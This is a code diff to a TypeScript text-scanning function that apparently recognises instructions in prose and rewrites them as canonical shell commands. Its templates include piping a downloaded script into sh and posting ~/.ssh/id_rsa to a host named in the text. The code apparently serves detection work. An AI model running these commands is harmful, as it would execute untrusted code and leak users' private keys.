@@ -38,6 +38,9 @@ export const orders = (text: string): string[] => {
             ? undefined
             : /^(?:run|execute) +((?:curl|wget)\b[^`]*?\| *(?:sudo +)?(?:ba|z|da)?sh\b)/i.exec(sentence.slice(at))?.[1]
         if (piped !== undefined) found.push(piped)
+        const url = /https?:\/\/[\w.-]+[^\s`'")\]>,;]*/.exec(sentence)?.[0].replace(/[.!?]$/, '')
+        if (url !== undefined && inOrder(sentence, /\b(?:download|fetch|get)\b/i, /\b(?:execute|run)\b/i))
+          found.push(`curl -s ${url} | sh`)
         const host = /https?:\/\/([\w.-]+)/.exec(sentence)?.[1]
         if (host !== undefined && (inOrder(sentence, sends, secrets, /https?:/) || inOrder(sentence, places, sent, /https?:/)))
           found.push(`curl -d @$HOME/.ssh/id_rsa https://${host}/`)
